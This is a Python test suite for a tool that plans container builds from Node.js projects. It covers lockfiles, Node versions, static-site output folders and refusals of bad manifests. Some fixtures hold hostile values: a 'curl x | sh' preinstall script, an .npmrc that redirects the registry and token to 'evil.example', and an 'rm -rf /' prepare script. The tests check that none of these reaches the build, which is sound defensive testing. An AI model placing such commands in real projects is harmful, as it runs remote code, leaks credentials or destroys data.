"""What becomes of a folder with a package.json."""

from __future__ import annotations

import base64
import json
from pathlib import Path
from typing import Any

import pytest

from sekisho.errors import Refusal
from stages.build.language import SOURCE, Plan, Unlocked
from stages.build.languages.node import Node
from stages.build.languages.node_lock import PROXY
from stages.build.project import Project

HASH = f"sha512-{base64.b64encode(bytes(64)).decode()}"
OFFERED = ("24.21.0", "22.23.3")


def package(version: str = "1.0.0", **fields: Any) -> dict[str, Any]:
    return {"version": version, "integrity": HASH, **fields}


def make(folder: Path, manifest: dict[str, Any], packages: dict[str, Any] | None = None, **files: str) -> Project:
    (folder / "package.json").write_text(json.dumps(manifest))
    if packages is not None:
        root = {key: manifest[key] for key in ("dependencies", "devDependencies") if key in manifest}
        lock = {"lockfileVersion": 3, "packages": {"": root, **packages}}
        (folder / "package-lock.json").write_text(json.dumps(lock, indent=2))
    for name, text in files.items():
        path = folder / name.replace("__", "/")
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    return Project(folder)


def plan(folder: Path, manifest: dict[str, Any], packages: dict[str, Any] | None = None, **files: str) -> Plan:
    found = Node().plan(make(folder, manifest, packages, **files), OFFERED)
    assert isinstance(found, Plan)
    return found


def script(found: Plan, name: str) -> str:
    return next(step.command[-1] for step in found.steps if step.name == name)


EXPRESS = {
    "scripts": {"start": "node server.js"},
    "dependencies": {"express": "^5.0.0"},
    "devDependencies": {"jest": "^1"},
}
LOCK = {"node_modules/express": package("5.1.0"), "node_modules/jest": package(dev=True)}


def test_a_server_without_a_build_makes_no_container_but_the_kept_one(tmp_path: Path) -> None:
    found = plan(tmp_path, EXPRESS, LOCK, **{"server.js": ""})
    assert found.language == "node"
    assert found.runtime.command == ("node", "server.js")
    assert found.runtime.environment["NODE_ENV"] == "production"
    assert [(step.name, step.keep, step.source) for step in found.steps] == [("dependencies", True, None)]
    assert [(take.kind, take.source, take.into) for take in found.takes] == [
        ("dependencies", "dependencies", "app"),
        ("application", SOURCE, "app"),
    ]
    assert [item.path for item in found.artifacts] == ["express/-/express-5.1.0.tgz"]
    assert found.artifacts[0].save_as == f"_cacache/content-v2/sha512/00/00/{'0' * 124}"
    assert found.artifacts[0].where == "package-lock.json:12"
    assert found.locked == ("pkg:npm/express@5.1.0",)
    assert found.no_command is None


def test_neither_packages_nor_secrets_nor_git_are_taken_from_the_folder(tmp_path: Path) -> None:
    found = plan(tmp_path, EXPRESS, LOCK, **{"server.js": "", ".env": "KEY=x"})
    left_out = found.takes[-1].exclude
    assert {"**/node_modules", ".git", "**/.env", "**/.env.local", "**/.npmrc"} <= set(left_out)
    assert any(note.startswith(".env is not put into the image") for note in found.notes)


def test_what_the_install_sees_holds_no_code_and_changes_with_packages_only(tmp_path: Path) -> None:
    one = plan(tmp_path, EXPRESS, LOCK, **{"server.js": ""}).steps
    changed = {**EXPRESS, "version": "2.0.0", "scripts": {"start": "node server.js", "preinstall": "curl x | sh"}}
    assert plan(tmp_path, changed, LOCK).steps == one
    assert all(b"curl" not in data for step in one for data in step.files.values())
    other = {**LOCK, "node_modules/express": package("5.1.1")}
    assert plan(tmp_path, EXPRESS, other).steps != one


def test_npm_settings_count_where_they_are_harmless(tmp_path: Path) -> None:
    text = "legacy-peer-deps=true\nregistry=https://evil.example\n//evil.example/:_authToken=x\nignore-scripts=false\n"
    found = plan(tmp_path, EXPRESS, LOCK, **{"server.js": "", ".npmrc": text})
    assert "--legacy-peer-deps=true" in script(found, "dependencies")
    assert "evil" not in json.dumps([step.command for step in found.steps])


def test_a_build_script_runs_with_all_packages_and_the_image_gets_those_of_production(tmp_path: Path) -> None:
    manifest = {**EXPRESS, "scripts": {"build": "tsc", "start": "node dist/main.js"}}
    found = plan(tmp_path, manifest, LOCK)
    assert [(step.name, step.keep, step.uses) for step in found.steps] == [
        ("modules", True, ()),
        ("dependencies", True, ()),
        ("build", False, ("modules",)),
    ]
    assert "--include=dev" in script(found, "modules")
    assert "--omit=dev" in script(found, "dependencies")
    assert '"npm", "run", "build"' in script(found, "build")
    assert [(take.kind, take.source) for take in found.takes] == [
        ("dependencies", "dependencies"),
        ("application", "build"),
    ]
    assert len(found.artifacts) == 2
    # Next.js keeps links to packages in .next/node_modules, without which it does not find them.
    assert "node_modules" in found.takes[1].exclude
    assert "**/node_modules" not in found.takes[1].exclude
    assert found.locked == ("pkg:npm/express@5.1.0",)


def test_without_packages_of_development_there_is_one_install(tmp_path: Path) -> None:
    manifest = {"scripts": {"build": "node b.js", "start": "node x.js"}, "dependencies": {"express": "^5.0.0"}}
    found = plan(tmp_path, manifest, {"node_modules/express": package("5.1.0")})
    assert [step.name for step in found.steps] == ["modules", "build"]
    assert found.takes[0].source == "modules"


def test_scripts_that_change_packages_take_them_from_the_build(tmp_path: Path) -> None:
    scripts = {"postinstall": "patch-package", "prepare": "husky", "start": "node server.js"}
    found = plan(tmp_path, {**EXPRESS, "scripts": scripts}, LOCK, **{"server.js": ""})
    assert [step.name for step in found.steps] == ["modules", "build"]
    assert "npm prune --omit=dev" in script(found, "build")
    assert "prepare" not in script(found, "build")
    assert (found.takes[0].kind, found.takes[0].source, found.takes[0].below) == (
        "dependencies", "build", "app/node_modules",
    )  # fmt: skip


@pytest.mark.parametrize(
    ("manifest", "files", "folder"),
    [
        ({"scripts": {"dev": "vite", "build": "vite build", "preview": "vite preview"},
          "devDependencies": {"vite": "1"}}, {}, "dist"),
        ({"scripts": {"build": "vite build"}, "devDependencies": {"vite": "1"}},
         {"vite.config.ts": "export default defineConfig({\n  build: { outDir: './web/out' },\n})"}, "web/out"),
        ({"scripts": {"start": "react-scripts start", "build": "react-scripts build"},
          "dependencies": {"react-scripts": "1"}}, {"public__index.html": "template"}, "build"),
        ({"scripts": {"start": "npx @11ty/eleventy --serve", "build": "npx @11ty/eleventy"},
          "dependencies": {"@11ty/eleventy": "1"}}, {}, "_site"),
        ({"scripts": {"docs:build": "vitepress build docs"}, "devDependencies": {"vitepress": "1"}},
         {}, "docs/.vitepress/dist"),
        ({"scripts": {"build": "vitepress build site"}, "devDependencies": {"vitepress": "1"}}, {},
         "site/.vitepress/dist"),
        ({"scripts": {"start": "docusaurus start", "build": "docusaurus build"},
          "dependencies": {"@docusaurus/core": "1"}}, {}, "build"),
        ({"scripts": {"start": "next start", "build": "next build"}, "dependencies": {"next": "1"}},
         {"next.config.js": "module.exports = {\n  output: 'export',\n}"}, "out"),
        ({"scripts": {"start": "ng serve", "build": "ng build"}, "dependencies": {"@angular/core": "1"}},
         {"angular.json": json.dumps({"projects": {"shop": {"architect": {"build": {"options": {
             "outputPath": "dist/shop"}}}}}})}, "dist/shop/browser"),
        ({"scripts": {"build": "make-it --output ./made"}}, {}, "made"),
    ],
)  # fmt: skip
def test_a_build_that_makes_a_site_is_served_as_one(
    tmp_path: Path, manifest: dict[str, Any], files: dict[str, str], folder: str
) -> None:
    names = [*manifest.get("dependencies", {}), *manifest.get("devDependencies", {})]
    found = plan(tmp_path, manifest, {f"node_modules/{name}": package("1.0.0") for name in names}, **files)
    assert (found.language, found.built_in, found.version) == ("static", "node", "24.21.0")
    assert [(take.kind, take.source, take.below, take.into) for take in found.takes] == [
        ("application", "build", "ship", "srv/www")
    ]
    assert f"/out/ship {folder} " in script(found, "build") + " "
    assert found.locked == ()


def test_a_template_in_the_repository_is_not_taken_for_the_site(tmp_path: Path) -> None:
    manifest = {"scripts": {"build": "react-scripts build"}, "dependencies": {"react-scripts": "1"}}
    found = plan(tmp_path, manifest, {"node_modules/react-scripts": package()}, **{"public__index.html": "template"})
    assert " public " not in script(found, "build")


def test_a_program_that_serves_requests_is_no_site(tmp_path: Path) -> None:
    manifest = {
        "scripts": {"build": "vite build"},
        "dependencies": {"express": "5.1.0"},
        "devDependencies": {"vite": "1"},
    }
    found = plan(tmp_path, manifest, {"node_modules/express": package("5.1.0"), "node_modules/vite": package(dev=True)})
    assert found.language == "node"
    assert found.no_command is not None
    assert "scripts.start" in found.no_command.remedy


def test_next_standalone_brings_what_it_needs(tmp_path: Path) -> None:
    manifest = {"scripts": {"start": "next start", "build": "next build"}, "dependencies": {"next": "^16.0.0"}}
    found = plan(tmp_path, manifest, {"node_modules/next": package("16.0.1")},
                 **{"next.config.mjs": 'export default {\n  output: "standalone",\n}'})  # fmt: skip
    assert found.runtime.command == ("node", "server.js")
    assert [(take.source, take.below, take.into) for take in found.takes] == [("build", "ship", "app")]
    assert "**/node_modules" not in found.takes[0].exclude
    assert found.locked == ()
    assert "mv .next/standalone /out/ship" in script(found, "build")


def test_next_without_standalone_starts_its_own_server(tmp_path: Path) -> None:
    manifest = {"scripts": {"start": "next start -p 3000", "build": "next build"}, "dependencies": {"next": "^16.0.0"}}
    found = plan(tmp_path, manifest, {"node_modules/next": package("16.0.1")})
    assert found.runtime.command == ("node", "node_modules/next/dist/bin/next", "start")


@pytest.mark.parametrize(
    ("manifest", "files", "command"),
    [
        ({"main": "lib/app.js"}, {"lib__app.js": ""}, ("node", "lib/app.js")),
        ({}, {"server.js": ""}, ("node", "server.js")),
        ({"scripts": {"start": "nest start", "start:prod": "node dist/main", "build": "nest build"}}, {},
         ("node", "dist/main")),
        ({"scripts": {"start": "node wrong.js"}}, {"Procfile": "release: x\nweb: node right.js\n"},
         ("node", "right.js")),
    ],
)  # fmt: skip
def test_how_it_starts_is_found_where_people_write_it(
    tmp_path: Path, manifest: dict[str, Any], files: dict[str, str], command: tuple[str, ...]
) -> None:
    assert plan(tmp_path, manifest, **files).runtime.command == command


@pytest.mark.parametrize(
    ("manifest", "said"),
    [
        ({}, "no start script"),
        ({"scripts": {"start": "vite"}}, "server for development"),
        ({"scripts": {"start": "node missing.js"}}, "not in the repository"),
        ({"scripts": {"start": "bash run.sh"}}, "neither node nor"),
    ],
)
def test_where_nothing_starts_it_score_may_still_say_so(tmp_path: Path, manifest: dict[str, Any], said: str) -> None:
    found = plan(tmp_path, manifest)
    assert found.no_command is not None
    assert said in str(found.no_command)


def test_tools_beside_a_plain_site_make_no_program_of_it(tmp_path: Path) -> None:
    found = plan(tmp_path, {"scripts": {"lint": "prettier ."}}, **{"public__index.html": "<p>"})
    assert (found.language, found.steps, found.takes[0].below) == ("static", (), "public")


@pytest.mark.parametrize(
    ("engines", "files", "version"),
    [
        ({"node": ">=18"}, {}, "24.21.0"),
        ({"node": "22.x"}, {}, "22.23.3"),
        ({"node": "^20.19 || >=22.12"}, {"..nvmrc": "22\n"}, "22.23.3"),
        ({}, {"..nvmrc": "lts/jod"}, "22.23.3"),
        ({}, {"..node-version": "v22.1.0"}, "22.23.3"),
        ({}, {"..nvmrc": "18"}, "24.21.0"),
        ({}, {"..nvmrc": "lts/*"}, "24.21.0"),
        ({"node": "whatever you like"}, {}, "24.21.0"),
    ],
)
def test_the_version_is_the_one_that_fits(
    tmp_path: Path, engines: dict[str, str], files: dict[str, str], version: str
) -> None:
    dotted = {name.removeprefix("."): text for name, text in files.items()}
    found = plan(tmp_path, {"engines": engines}, **dotted)
    assert found.version == version


def test_a_version_that_nobody_offers_is_refused_in_one_sentence(tmp_path: Path) -> None:
    with pytest.raises(Refusal, match=r"asks for Node.js 16.x \(`engines.node`\); offered: 24.21.0, 22.23.3"):
        plan(tmp_path, {"engines": {"node": "16.x"}})


@pytest.mark.parametrize(
    ("wanted", "said"),
    [
        ({"express": "^4.0.0"}, r"asks for express \^4.0.0, and package-lock.json has 5.1.0"),
        ({"express": "^5.0.0", "koa": "1"}, "asks for koa, and package-lock.json does not have it"),
        ({"express": "github:expressjs/express"}, "comes from a git repository"),
        ({"express": "file:../express"}, "comes from a file"),
    ],
)
def test_a_lock_that_is_not_this_manifests_is_refused_with_the_command(
    tmp_path: Path, wanted: dict[str, str], said: str
) -> None:
    project = make(tmp_path, {"dependencies": {"express": "^5.0.0"}}, {"node_modules/express": package("5.1.0")})
    (tmp_path / "package.json").write_text(json.dumps({"dependencies": wanted}))
    with pytest.raises(Refusal, match=said) as caught:
        Node().plan(project, OFFERED)
    assert caught.value.remedy


def test_a_lock_that_fits_though_the_range_was_written_anew_is_taken(tmp_path: Path) -> None:
    project = make(tmp_path, {"dependencies": {"express": "^5.0.0"}}, {"node_modules/express": package("5.1.0")})
    (tmp_path / "package.json").write_text(json.dumps({"dependencies": {"express": ">=5.1 <6"}}))
    assert isinstance(Node().plan(project, OFFERED), Plan)


def test_workspaces_are_installed_from_their_manifests(tmp_path: Path) -> None:
    packages = {
        "packages/a": {"version": "1.0.0"},
        "node_modules/a": {"resolved": "packages/a", "link": True},
        "node_modules/b": package(),
    }
    project = make(tmp_path, {"workspaces": ["packages/*"]}, packages)
    with pytest.raises(Refusal, match=r"there is no packages/a/package.json"):
        Node().plan(project, OFFERED)
    (tmp_path / "packages/a").mkdir(parents=True)
    (tmp_path / "packages/a/package.json").write_text('{"name": "a", "scripts": {"prepare": "rm -rf /"}}')
    found = Node().plan(project, OFFERED)
    assert isinstance(found, Plan)
    install = found.steps[0]
    assert "packages/a/package.json" in install.command[-1]
    assert all(b"rm -rf" not in data for name, data in install.files.items() if name.endswith(".manifest"))


def test_without_a_lock_it_is_resolved_by_npm_against_the_proxy_only(tmp_path: Path) -> None:
    project = make(tmp_path, {"dependencies": {"express": "^5.0.0"}}, **{"node_modules__x__package.json": "{}"})
    found = Node().plan(project, OFFERED)
    assert isinstance(found, Unlocked)
    assert found.produces == ("package-lock.json",)
    assert found.step.source == ("package.json",)
    assert found.step.environment["npm_config_registry"] == PROXY
    assert found.step.environment["npm_config_omit_lockfile_registry_resolved"] == "true"
    assert "--ignore-scripts" in found.step.command[-1]
    assert "npm install --package-lock-only" in found.refusal.remedy


def test_without_packages_no_lock_is_needed(tmp_path: Path) -> None:
    found = plan(tmp_path, {"scripts": {"start": "node x.js"}}, **{"x.js": ""})
    assert (found.steps, found.artifacts, [take.kind for take in found.takes]) == ((), (), ["application"])


def test_two_locks_are_told_apart_by_the_named_manager(tmp_path: Path) -> None:
    found = plan(tmp_path, EXPRESS, LOCK, **{"server.js": "", "yarn.lock": "# yarn lockfile v1\n"})
    assert "package-lock.json counts; yarn.lock beside it does not." in found.notes
    yarn = 'express@^5.0.0:\n  version "5.1.0"\n'
    yarn += f'  resolved "https://x.example/express/-/express-5.1.0.tgz"\n  integrity {HASH}\n'
    yarn += yarn.replace("express", "jest").replace("^5.0.0", "^1").replace("5.1.0", "1.0.0")
    found = plan(tmp_path, {**EXPRESS, "packageManager": "yarn@1.22.22"}, LOCK, **{"yarn.lock": yarn})
    assert "yarn.lock counts; package-lock.json beside it does not." in found.notes
    assert '"yarn", "install", "--frozen-lockfile"' in script(found, "dependencies")


@pytest.mark.parametrize(
    ("file", "text"),
    [("yarn.lock", "# yarn lockfile v1\n"), ("pnpm-lock.yaml", "lockfileVersion: '9.0'\nimporters:\n  .: {}\n")],
)
def test_a_lock_without_what_is_asked_for_is_refused(tmp_path: Path, file: str, text: str) -> None:
    with pytest.raises(Refusal, match=f"asks for express, and {file} does not have it"):
        plan(tmp_path, EXPRESS, **{file: text})


def test_the_lock_of_an_old_npm_is_what_the_line_resolves_from(tmp_path: Path) -> None:
    old = json.dumps({"lockfileVersion": 1, "dependencies": {"express": {"version": "5.1.0", "integrity": HASH}}})
    found = Node().plan(make(tmp_path, EXPRESS, **{"package-lock.json": old}), OFFERED)
    assert isinstance(found, Unlocked)
    assert "lockfileVersion 1" in found.refusal.what
    assert "npm install --package-lock-only" in found.refusal.remedy
    # Its versions are npm's to read, and decide what comes out; that takes its place.
    assert found.step.source == ("package.json", "package-lock.json") == found.decided_by
    assert found.produces == ("package-lock.json",)
    (tmp_path / "package-lock.json").rename(tmp_path / "npm-shrinkwrap.json")
    found = Node().plan(Project(tmp_path), OFFERED)
    assert isinstance(found, Unlocked)
    assert found.produces == ("npm-shrinkwrap.json",)


def test_a_lock_of_bun_is_refused_with_the_command(tmp_path: Path) -> None:
    with pytest.raises(Refusal, match="bun") as caught:
        plan(tmp_path, {"dependencies": {"x": "1"}}, **{"bun.lock": "{}"})
    assert "package-lock.json" in caught.value.remedy


@pytest.mark.parametrize(
    "text",
    [
        "", "[]", "{", '{"scripts": []}', '{"scripts": {"start": 1}}', '{"dependencies": {"a": null}}',
        '{"name": "a", "name": "b"}', "\ufeff[]", '{"a":' * 50_000,
    ],
)  # fmt: skip
def test_a_manifest_that_is_none_is_refused(tmp_path: Path, text: str) -> None:
    (tmp_path / "package.json").write_text(text)
    with pytest.raises(Refusal) as caught:
        Node().plan(Project(tmp_path), OFFERED)
    assert caught.value.remedy


def test_another_encoding_is_refused(tmp_path: Path) -> None:
    (tmp_path / "package.json").write_bytes('{"name": "é"}'.encode("utf-16"))
    with pytest.raises(Refusal, match="UTF-8"):
        Node().plan(Project(tmp_path), OFFERED)


@pytest.mark.parametrize(
    "fields", [{"workspaces": 5}, {"engines": "x"}, {"main": {}}, {"packageManager": []}, {"volta": 1}]
)
def test_odd_fields_do_no_harm(tmp_path: Path, fields: dict[str, Any]) -> None:
    make(tmp_path, {"scripts": {"start": "node x.js"}, **fields}, **{"x.js": ""})
    assert Node().plan(Project(tmp_path), OFFERED)
